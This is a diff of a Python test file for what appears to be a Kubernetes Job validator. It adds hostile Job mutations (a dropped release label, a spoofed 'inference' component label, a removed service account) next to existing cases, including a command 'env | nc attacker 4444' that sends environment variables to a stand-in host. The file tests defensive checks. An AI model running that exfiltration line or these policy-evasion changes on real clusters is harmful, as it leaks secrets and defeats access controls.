@@ -140,12 +140,26 @@ def lookalike_image(job: Job) -> None:
     container(job)["image"] = f"{repository}-debug:{tag}"
 
 
+def release_label_dropped(job: Job) -> None:
+    # Selected by no NetworkPolicy of the release, so by no default deny either.
+    del job["spec"]["template"]["metadata"]["labels"]["housing.io/release"]
+
+
+def posing_as_inference(job: Job) -> None:
+    job["spec"]["template"]["metadata"]["labels"]["app.kubernetes.io/component"] = "inference"
+
+
 def other_command(job: Job) -> None:
     container(job)["command"] = ["sh", "-c", "env | nc attacker 4444"]
 
 
 def other_service_account(job: Job) -> None:
     pod(job)["serviceAccountName"] = "cali-housing-monitor"
+
+
+def no_service_account(job: Job) -> None:
+    # Pods of a template without one run as the namespace's "default" ServiceAccount.
+    del pod(job)["serviceAccountName"]
 
 
 def deprecated_service_account(job: Job) -> None:
@@ -231,7 +245,10 @@ HOSTILE: list[tuple[Callable[[Job], None], set[str]]] = [
     (other_image, {"image refused"}),
     (lookalike_image, {"image refused"}),
     (other_command, {"container refused"}),
+    (release_label_dropped, {"pod labels refused"}),
+    (posing_as_inference, {"pod labels refused"}),
     (other_service_account, {"serviceAccountName refused"}),
+    (no_service_account, {"serviceAccountName refused"}),
     (deprecated_service_account, {"serviceAccountName refused"}),
     (token_mounted, {"automountServiceAccountToken refused"}),
     (privileged, {"privileged refused"}),
